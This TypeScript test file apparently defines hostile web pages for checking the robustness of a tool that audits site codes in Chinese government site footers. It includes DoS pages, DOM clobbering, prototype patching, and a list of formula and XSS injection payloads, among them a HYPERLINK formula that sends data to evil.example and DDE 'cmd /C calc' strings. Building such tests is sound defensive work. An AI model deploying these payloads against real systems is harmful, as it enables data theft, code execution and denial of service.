import type { Cause } from '../../utils/messages';
import { explosiveTexts } from '../helpers/explosive-texts';
import { footer, html, NEWS } from './pages';

/** As long as a browser lays out in reasonable time; the unit tests go further. Characters. */
const EXPLOSIVE_TEXTS = explosiveTexts(20_000);

/** A page made to hurt whoever reads it, and what the inspector must be told. */
export interface HostilePage {
  readonly name: string;
  readonly html: string;
  /** Ways in which the audit may end: with findings, or with a named cause. */
  readonly ends: readonly ('done' | Cause)[];
  /** Of an audit that was `done`: the caps of which one must have been met and noted. */
  readonly caps?: readonly string[];
  /** Of an audit that was `done`: the site code in the footer must have been read. */
  readonly reads?: 'site-code';
}

const script = (code: string): string => `<script>${code}</script>`;
/** After loading, so that the page opens before it turns. */
const later = (code: string, ms = 300): string =>
  script(`addEventListener('load', () => setTimeout(() => { ${code} }, ${ms}));`);

const NAMES_TO_CLOBBER = [
  'body',
  'children',
  'attributes',
  'parentNode',
  'firstChild',
  'nextSibling',
  'nodeType',
  'localName',
  'tagName',
  'textContent',
  'shadowRoot',
  'contentDocument',
  'getAttribute',
  'getAttributeNames',
  'getBoundingClientRect',
  'checkVisibility',
  'querySelectorAll',
  'documentElement',
  'scrollingElement',
  'readyState',
  'title',
  'location',
  'defaultView',
  'href',
  'action',
  'id',
  'className',
  'ownerDocument',
  'baseURI',
  'zhengwangAudit',
];

const clobbering = NAMES_TO_CLOBBER.flatMap((name) => [
  `<form name="${name}"><input name="${name}"></form>`,
  `<img name="${name}" alt="">`,
  `<embed name="${name}" hidden>`,
]).join('');
/** One form that hides every way through the tree from whoever asks the form itself. */
const blindForm = `<form id="zhengwangAudit">${NAMES_TO_CLOBBER.map((name) => `<input name="${name}">`).join('')}`;

const PATCHES = `
  const lie = () => { throw new Error('patched'); };
  for (const type of [Node, Element, HTMLElement, Document, CharacterData, HTMLAnchorElement, HTMLImageElement]) {
    for (const name of Object.getOwnPropertyNames(type.prototype)) {
      try { Object.defineProperty(type.prototype, name, { get: lie, set: lie, configurable: true }); } catch {}
    }
  }
  for (const type of [Array, String, Map, Set, Promise, RegExp, MessagePort, MutationObserver]) {
    for (const name of Object.getOwnPropertyNames(type.prototype)) {
      if (name === 'constructor') continue;
      try { Object.defineProperty(type.prototype, name, { value: lie, configurable: true, writable: true }); } catch {}
    }
  }
  JSON.stringify = JSON.parse = lie;
  window.getComputedStyle = window.setTimeout = window.MessageChannel = lie;
  Object.prototype.hidden = true; Object.prototype.tag = 'script'; Object.prototype.get = lie;`;

/** `top`: a hundred thousand elements, each in the one before. In chains, because one by one takes the browser a minute. */
const DEEP = `
  const chain = document.createElement('div');
  for (let i = 1, last = chain; i < 250; i++) last = last.appendChild(document.createElement('div'));
  const top = document.createElement('div');
  let deep = top;
  for (let i = 0; i < 400; i++) {
    deep.append(chain.cloneNode(true));
    while (deep.firstChild) deep = deep.firstChild;
  }
  deep.textContent = '底';`;

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '"><img src=x onerror="document.title=\'owned\'">',
  '<script>document.title="owned"</script>',
  '{{constructor.constructor("document.title=1")()}}',
  '\u202e码识标站网\u202c \u2066\u2069 \u200b\ufeff',
  '</textarea></title></style><svg onload=document.title=1>',
];

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

export const FORMULA_FOOTER = html(
  `${NEWS}<div id="footer" class="footer"><p>主办单位：${FORMULAS.map(escaped).join('</p><p>主办单位：')}</p>
  <p title="${FORMULAS.map(escaped).join(' ')}">网站标识码：=3499990001 版权所有 联系电话：=0599-1234567</p>
  <p>网站标识码：<a href="javascript:document.title='owned'">@12345</a> 皖ICP备=12345678号</p></div>`,
  { title: '=cmd|示例县</title>' },
);

export const HOSTILE_PAGES: readonly HostilePage[] = [
  {
    name: 'a million nodes',
    html: html(
      `<div id="many"></div>${footer()}${later(
        `document.getElementById('many').innerHTML = ('<p>' + '<i>条</i>'.repeat(1000) + '</p>').repeat(500);`,
        0,
      )}`,
    ),
    ends: ['done', 'not-responding'],
    caps: ['nodes', 'time'],
  },
  {
    name: 'nesting a hundred thousand deep by script',
    html: html(`${NEWS}${footer()}${later(`${DEEP} document.body.append(top);`)}`),
    ends: ['done', 'crashed', 'not-responding'],
  },
  {
    name: 'nesting a hundred thousand deep, not laid out',
    html: html(`${NEWS}${footer()}${later(`${DEEP} top.hidden = true; document.body.append(top);`)}`),
    ends: ['done'],
    reads: 'site-code',
  },
  {
    name: 'nesting a hundred thousand deep in its markup',
    html: html(`${NEWS}${'<div><b>'.repeat(50_000)}底${footer()}`),
    ends: ['done', 'not-responding'],
  },
  {
    name: 'a text of 50 MB',
    html: html(
      `${NEWS}<p id="long"></p>${footer()}${later(`
        document.getElementById('long').append('政务公开 '.repeat(5_000_000));`)}`,
    ),
    ends: ['done', 'not-responding', 'crashed'],
    caps: ['text'],
  },
  {
    name: 'a text of 50 MB that is not laid out',
    html: html(
      `${NEWS}<p id="long" hidden></p>${footer()}${later(`
        document.getElementById('long').append('政务公开 '.repeat(5_000_000));`)}`,
    ),
    ends: ['done'],
    caps: ['text'],
    reads: 'site-code',
  },
  {
    name: 'names that hide the DOM behind forms',
    html: html(`${clobbering}${blindForm}${NEWS}${footer()}</form>`),
    ends: ['done'],
    reads: 'site-code',
  },
  {
    name: 'patched prototypes',
    html: html(`${NEWS}${footer()}${later(PATCHES)}`),
    ends: ['done'],
    reads: 'site-code',
  },
  {
    name: 'endless change',
    html: html(
      `${NEWS}${footer()}${later(
        `
        const note = document.createElement('span');
        document.getElementById('footer').append(note);
        setInterval(() => {
          note.textContent = '访问量：' + performance.now();
          document.querySelector('.news').insertAdjacentHTML('beforeend', '<li>新条目 ' + performance.now() + '</li>');
        }, 10);
        const spin = () => { document.body.dataset.turn = performance.now(); requestAnimationFrame(spin); };
        spin();`,
        0,
      )}`,
    ),
    ends: ['done'],
    reads: 'site-code',
  },
  {
    name: 'text made to blow up expressions',
    html: html(
      `${NEWS}<div class="foot">${EXPLOSIVE_TEXTS.slice(0, 12)
        .map((text) => `<p>${text}</p>`)
        .join('')}</div>${EXPLOSIVE_TEXTS.map((text) => `<p>${text}</p>`).join('')}${footer()}`,
    ),
    ends: ['done'],
    reads: 'site-code',
  },
  {
    name: 'a footer full of formulas and markup',
    html: FORMULA_FOOTER,
    ends: ['done'],
  },
  {
    name: 'a main thread that hangs',
    html: html(`${NEWS}${footer()}${later('for (;;);')}`),
    ends: ['not-responding'],
  },
  {
    name: 'a page that leaves while it is read',
    html: html(`${NEWS}${footer()}${later("location.href = 'https://www.elsewhere.example/';", 900)}`),
    // Caught before it left, as it left, or where it led: nowhere.
    ends: ['done', 'moved', 'permission', 'error-page'],
  },
];
